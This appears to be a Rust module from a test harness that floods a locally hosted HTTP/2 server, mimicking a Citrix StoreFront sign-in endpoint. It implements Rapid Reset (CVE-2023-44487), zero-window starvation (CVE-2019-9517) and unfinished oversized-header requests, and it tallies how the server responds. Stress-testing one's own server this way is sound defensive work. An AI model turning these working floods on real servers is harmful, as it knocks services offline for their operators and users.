//! Floods over HTTP/2: by the client of the `h2` crate where it can flood, otherwise by frames of
//! our own.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use h2::client::{Builder, Connection, ResponseFuture, SendRequest};
use h2::{Reason, SendStream};
use http::header::{ACCEPT, CONTENT_TYPE, COOKIE, HeaderValue};
use http::{Method, Uri};
use roamd_bench::TlsClients;
use roamd_store_proto::media_type;
use tokio::io::{AsyncRead, AsyncWrite};
use tokio::net::TcpStream;
use tokio::task::yield_now;
use tokio::time::sleep;

use super::frames::{self, FrameFlood};
use super::tally::{Outcome, Tally};

/// A large document that needs no token.
const DOCUMENT: &str = "https://localhost/Schemas/Resources.xsd";

/// Requests at once: ten times the streams that a connection may have. The client opens as many as
/// the server allows, and the others when it can.
const REQUESTS: usize = 320;

/// Streams that the server allows on a connection.
const STREAMS: usize = 32;

/// Path for requests without bodies, which needs no token.
const PROTOCOLS: &str = "https://localhost/Citrix/StoreAuth/auth/v1/protocols";

/// Length of a head without a body, in bytes.
const HEAD_BYTES: usize = 16 * 1024;

/// What floods a connection.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Flood {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Requests whose responses are not read: the window is closed (CVE-2019-9517).
    ZeroWindow,
    /// Requests with long heads whose bodies never come.
    UnfinishedRequests,
    /// Frames that the client would not send.
    Frames(FrameFlood),
}

impl Flood {
    /// Floods over a connection until the server ends it. Counts what the server does, and pauses
    /// after each write.
    ///
    /// # Errors
    /// If the TLS handshake fails.
    pub(super) async fn run(
        self,
        stream: TcpStream,
        server: SocketAddr,
        tls: &TlsClients,
        tally: &Tally,
        pause: Duration,
    ) -> Result<()> {
        let stream = tls.connect(stream, server).await?;
        let open = tally.open();
        let ended = match self {
            Self::RapidReset => reset_requests(stream, tally, pause).await?,
            Self::ZeroWindow => leave_responses(stream, tally).await?,
            Self::UnfinishedRequests => leave_requests(stream, tally).await?,
            Self::Frames(flood) => frames::send(flood, stream, tally, pause).await,
        };
        open.ended(ended);
        Ok(())
    }
}

/// Opens and resets requests with a client that obeys the protocol. The first one is served, which
/// tells the end of a flood from a connection that is refused.
async fn reset_requests(
    stream: impl AsyncRead + AsyncWrite + Unpin + Send + 'static,
    tally: &Tally,
    pause: Duration,
) -> Result<Outcome> {
    let (sender, connection) = Builder::new().handshake(stream).await?;
    let is_served = AtomicBool::new(false);
    let act = async {
        let (first, _, mut sender) = request(sender).await?;
        first.await?;
        is_served.store(true, Ordering::Relaxed);
        loop {
            for _ in 0..REQUESTS {
                let (_, mut stream, next) = request(sender).await?;
                sender = next;
                // The connection sends the request before its reset.
                yield_now().await;
                stream.send_reset(Reason::CANCEL);
                tally.act(1);
            }
            sleep(pause).await;
        }
    };
    match end_of(connection, act).await? {
        Outcome::Closed if is_served.load(Ordering::Relaxed) => Ok(Outcome::Dropped),
        ended => Ok(ended),
    }
}

/// Sends requests and reads no response, with a client that obeys the protocol.
async fn leave_responses(
    stream: impl AsyncRead + AsyncWrite + Unpin + Send + 'static,
    tally: &Tally,
) -> Result<Outcome> {
    let closed = Builder::new().initial_window_size(0).handshake(stream);
    let (sender, connection) = closed.await?;
    let act = async {
        let mut sender = sender;
        let mut unread = Vec::new();
        for _ in 0..REQUESTS {
            let (response, _, next) = request(sender).await?;
            sender = next;
            tally.act(1);
            let head = response.await?;
            tally.count(Outcome::Status(head.status().as_u16()));
            unread.push(head);
        }
        std::future::pending().await
    };
    end_of(connection, act).await
}

/// Sends requests without their bodies, as many as the server allows, with a client that obeys the
/// protocol. Begins again when the server has responded to all.
async fn leave_requests(
    stream: impl AsyncRead + AsyncWrite + Unpin + Send + 'static,
    tally: &Tally,
) -> Result<Outcome> {
    let (sender, connection) = Builder::new().handshake(stream).await?;
    let act = async {
        let mut sender = sender;
        loop {
            let mut waiting = Vec::new();
            for _ in 0..STREAMS {
                sender = sender.ready().await?;
                waiting.push(sender.send_request(unfinished_request(), false)?);
                tally.act(1);
            }
            for (response, _body) in waiting {
                let head = response.await?;
                tally.count(Outcome::Status(head.status().as_u16()));
            }
        }
    };
    end_of(connection, act).await
}

/// Returns the head of a request for the protocols of the sign-in.
fn unfinished_request() -> http::Request<()> {
    let mut request = http::Request::new(());
    *request.method_mut() = Method::POST;
    *request.uri_mut() = Uri::from_static(PROTOCOLS);
    let headers = request.headers_mut();
    let of = HeaderValue::from_static;
    headers.insert(CONTENT_TYPE, of(media_type::REQUEST_TOKEN));
    headers.insert(ACCEPT, of(media_type::REQUEST_TOKEN_CHOICES));
    let filler = [b'a'; HEAD_BYTES];
    // Every byte is a letter.
    headers.extend(HeaderValue::from_bytes(&filler).map(|it| (COOKIE, it)));
    request
}

/// Sends a request as soon as the server allows another one.
async fn request(
    sender: SendRequest<Bytes>,
) -> Result<(ResponseFuture, SendStream<Bytes>, SendRequest<Bytes>), h2::Error> {
    let mut sender = sender.ready().await?;
    let mut request = http::Request::new(());
    *request.uri_mut() = Uri::from_static(DOCUMENT);
    let (response, stream) = sender.send_request(request, true)?;
    Ok((response, stream, sender))
}

/// Acts on a connection until it ends, and returns how.
async fn end_of<S>(
    connection: Connection<S, Bytes>,
    act: impl Future<Output = Result<(), h2::Error>>,
) -> Result<Outcome>
where
    S: AsyncRead + AsyncWrite + Unpin + Send + 'static,
{
    let mut connection = tokio::spawn(connection);
    tokio::select! {
        ended = &mut connection => Ok(outcome(ended?)),
        _failed = act => Ok(outcome(connection.await?)),
    }
}

fn outcome(ended: Result<(), h2::Error>) -> Outcome {
    let reason = ended.err().filter(h2::Error::is_go_away);
    let reason = reason.and_then(|error| error.reason());
    reason.map_or(Outcome::Closed, |reason| Outcome::GoAway(reason.into()))
}
